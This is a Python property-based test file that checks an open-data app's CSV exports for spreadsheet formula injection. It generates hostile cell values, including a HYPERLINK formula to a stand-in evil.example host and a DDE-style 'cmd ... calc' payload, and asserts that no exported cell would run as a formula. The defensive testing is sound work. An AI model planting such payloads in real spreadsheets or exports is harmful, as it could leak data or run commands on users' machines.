"""Hypothesis property tests for each CSV writer of the open data (review L1): hostile text in every text column of the
public tables, and no cell of incidents.csv, incidents-acled.csv or aggregates.csv that a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amparo.public import exports
from amparo.public.models import AggregateCount, PublicIncident

pytestmark = pytest.mark.django_db

BLANKS = ["", " ", "\u00a0", "\u3000", "\n", "\n\n", "\t", "\r", "\u2003", "\u200b", "\ufeff", "\u2028"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\ufe66", "\uff0b", "\uff20", "\u207c", "\u2212"]
hostile = st.builds(
    lambda pre, start, rest: pre + start + rest,
    st.sampled_from(BLANKS),
    st.sampled_from(STARTS),
    st.sampled_from(['HYPERLINK("http://evil.example/?x","y")', "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "2+3"]),
)
text = st.one_of(
    hostile, st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
)
NUMBER = re.compile(r"-?\d+(?:\.\d+)?")


def runs_as_formula(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    if NUMBER.fullmatch(cell):  # a number cell (a negative longitude) is a number, not a formula
        return False
    for ch in cell:
        if ch.isspace() or unicodedata.category(ch) in ("Zs", "Zl", "Zp", "Cf"):
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in "=+-@" or ch == "\u2212"
    return False


def cells(chunks: Iterable[str]) -> list[str]:
    body = "".join(chunks)
    return [c for row in csv.reader(io.StringIO(body, newline="")) for c in row]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    place=text,
    admin2=text,
    locality=text,
    operation=text,
    note=text,
    claims=text,
    response=text,
    title=text,
    tactic=text,
)
def test_l1_no_open_data_csv_cell_runs_as_a_formula(
    place: str,
    admin2: str,
    locality: str,
    operation: str,
    note: str,
    claims: str,
    response: str,
    title: str,
    tactic: str,
) -> None:
    PublicIncident.objects.all().delete()
    AggregateCount.objects.all().delete()
    PublicIncident.objects.create(
        public_id="HOSTILE1",
        date=dt.date(2026, 3, 1),
        date_precision="day",
        geo_level="city",
        admin1="IL",
        admin1_name="Illinois",
        admin2=admin2,
        locality=locality,
        latitude=41.88,
        longitude=-87.63,
        location_type="street_public",
        place_label=place,
        incident_type="targeted_arrest",
        tactics=[tactic],
        agencies=["ICE_ERO"],
        operation=operation,
        agents="3-9",
        verification_level="confirmed",
        note=note,
        official_claims=claims,
        evidence_response=response,
        sources=[{"type": "local_news", "title": title, "url": "https://news.example/", "date": ""}],
    )
    AggregateCount.objects.create(  # the codes' columns hold 40 characters
        dimension="cell",
        month="2026-03",
        admin1="IL",
        admin2=admin2,
        location_type=place[:40],
        incident_type=tactic[:40],
        count=4,
    )
    for name in ("incidents.csv", "incidents-acled.csv", "aggregates.csv"):
        _ctype, _file, generator = exports.DOWNLOADS[name]
        found = [c for c in cells(generator()) if runs_as_formula(c)]
        assert found == [], (name, found)
    # The hostile values are in the file, quoted: the check above saw them.
    incident = list(csv.DictReader(io.StringIO("".join(exports.incidents_csv()), newline="")))
    assert len(incident) == 1
    assert incident[0]["official_claims"] in (claims, "'" + claims)
    assert float(incident[0]["longitude"]) == -87.63
